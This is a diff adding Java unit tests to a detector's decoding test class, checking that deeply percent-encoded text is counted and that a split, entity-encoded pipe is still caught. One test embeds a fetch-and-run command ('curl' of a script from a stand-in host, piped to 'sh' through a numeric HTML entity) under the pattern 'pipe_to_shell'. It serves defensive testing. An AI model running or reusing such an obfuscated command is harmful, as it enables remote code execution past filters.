@@ -155,6 +155,27 @@ class DecodingTest {
     assertTrue(fixture.coverage.bounds().count(Bound.DECODE_DEPTH) > 0);
   }
 
+  /** So short that it is looked at when it ends. */
+  @Test
+  void deeperThanAllowedIsCountedInAShortBodyToo() {
+    String text = "%2525252525252541";
+    DetectorFixture fixture = new DetectorFixture();
+    fixture.body(fixture.outbound("collector.example"), text);
+    assertEquals(text.length(), fixture.coverage.snapshot().undecodableBytes());
+  }
+
+  /** The longest number that is an escape, wherever a piece ends in it. */
+  @Test
+  void aNumberWithManyZerosIsReadWhereverItIsCut() {
+    String attack = "curl http://h.example/i.sh &#0000000000124 sh";
+    for (int before = 200; before < 280; before++) {
+      DetectorFixture fixture = new DetectorFixture();
+      fixture.body(
+          fixture.inbound("api.example"), Encoders.bytes(" ".repeat(before) + attack), 100);
+      assertEquals(List.of("pipe_to_shell"), fixture.patterns(), "at " + before);
+    }
+  }
+
   @Test
   void whatIsMadeToCostMuchCostsABoundedAmount() {
     int size = 1 << 20;
